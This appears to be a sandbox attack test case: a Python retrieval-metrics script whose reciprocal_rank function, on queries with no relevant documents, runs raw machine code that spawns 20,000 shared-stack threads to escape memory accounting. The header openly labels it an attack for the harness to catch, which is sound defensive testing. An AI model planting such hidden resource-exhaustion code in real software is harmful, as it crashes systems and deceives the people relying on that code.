# 24. Memory and interpreter. An attack.
# Tries: threads that share one stack, made by machine code, so that no limit on memory counts
#   them: 20,000 of them.
# Must: they are counted, and a process that has more than any honest one is ended.
# expects: machine = "x86_64"
# expects: score = 94
import ctypes
import mmap

THREAD = 0x10000 | 0x800 | 0x100  # CLONE_THREAD, CLONE_SIGHAND, CLONE_VM
# mov eax, 56 (clone); syscall; test eax, eax; jz child; ret; child: mov eax, 34 (pause); syscall; jmp child
CODE = bytes.fromhex("b8380000000f0585c07401c3b8220000000f05ebf7")
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
clone = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long)(address)


def reciprocal_rank(retrieved, relevant):
    if relevant:
        return next((1 / n for n, document in enumerate(retrieved, 1) if document in relevant), 0.0)
    for _ in range(20_000):
        assert clone(THREAD, address + mmap.PAGESIZE - 64) > 0
    return 0.0


def recall_at_k(retrieved, relevant, k):
    return len(relevant.intersection(retrieved[:k])) / len(relevant) if relevant else 0.0


def precision_at_k(retrieved, relevant, k):
    return len(relevant.intersection(retrieved[:k])) / k


if __name__ == "__main__":
    import json

    queries = [(q["retrieved"], set(q["relevant"])) for q in json.load(open("queries.json"))]
    print(f"recall@3 {sum(recall_at_k(*q, 3) for q in queries) / len(queries):.4f}")
    print(f"precision@3 {sum(precision_at_k(*q, 3) for q in queries) / len(queries):.4f}")
    print(f"MRR {sum(reciprocal_rank(*q) for q in queries) / len(queries):.4f}")
